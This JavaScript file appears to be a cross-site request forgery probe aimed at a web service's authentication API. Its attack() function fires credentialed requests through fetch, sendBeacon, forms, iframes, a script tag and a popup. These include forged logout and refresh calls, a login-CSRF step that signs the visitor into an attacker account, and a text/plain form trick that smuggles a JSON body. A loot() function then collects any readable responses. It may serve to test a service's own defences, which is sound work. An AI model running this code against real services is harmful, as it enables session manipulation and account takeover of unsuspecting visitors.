// What a page can make a browser send to somebody else's service, and what it can read of the answers.

const fetched = [];
const windows = [];

/** Sends with the cookies of whoever looks at this page. What is read is the status and the text. */
function ask(url, options) {
  const read = async () => {
    const answer = await fetch(url, { credentials: "include", ...options });
    return answer.type === "opaque" ? null : `${answer.status} ${await answer.text()}`;
  };
  fetched.push(read().catch(() => null));
}

function askJson(url, body) {
  ask(url, { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify(body) });
}

function frame(name) {
  const frame = Object.assign(document.createElement("iframe"), { name });
  document.body.append(frame);
  windows.push(frame.contentWindow);
  return frame;
}

/** A form of one field, sent into the frame or window of that name. */
function submit(action, enctype, target, [name, value] = ["a", "b"]) {
  const form = Object.assign(document.createElement("form"), { method: "POST", action, enctype, target });
  form.append(Object.assign(document.createElement("input"), { name, value }));
  document.body.append(form);
  form.submit();
}

/** Everything that leaves this page where it is: 18 requests. With `login`, somebody's e-mail address and password. */
function attack(target, login) {
  const [refresh, logout, logIn, signUp] = ["refresh", "logout", "login", "signup"].map((name) => `${target}/v1/auth/${name}`);
  const me = `${target}/v1/me`;
  const mine = { email: "mallory@example.com", password: login.password };

  askJson(refresh, {});
  askJson(logIn, { ...login, token_transport: "cookie" });
  askJson(signUp, { ...mine, token_transport: "cookie" });
  ask(me);
  ask(logout, { method: "POST" });
  ask(logout, { method: "POST", mode: "no-cors" });
  for (const url of [refresh, logout]) ask(url, { method: "POST", mode: "no-cors", body: "{}" });

  navigator.sendBeacon(logout);
  navigator.sendBeacon(refresh, new Blob(["{}"], { type: "text/plain" }));

  // The mark between name and value makes it JSON: {…,"device_token":"="}
  const fields = JSON.stringify({ ...login, token_transport: "cookie", device_token: "" }).slice(0, -2);
  submit(logIn, "text/plain", frame("json").name, [fields, '"}']);
  submit(refresh, "text/plain", frame("plain").name, ["{}", ""]);
  submit(logout, "application/x-www-form-urlencoded", frame("urlencoded").name);
  submit(logout, "multipart/form-data", frame("multipart").name);

  frame("me").src = me;
  document.body.append(Object.assign(document.createElement("script"), { src: me }));
  windows.push(window.open(me, "popup"));
  windows.push(window.open("", "form"));
  submit(logout, "application/x-www-form-urlencoded", "form");
}

/** What could be read of it all. */
async function loot() {
  const shown = windows.map((other) => {
    try {
      return other.document.body.innerText || null;
    } catch {
      return null;
    }
  });
  return [...(await Promise.all(fetched)), ...shown].filter((read) => read !== null);
}
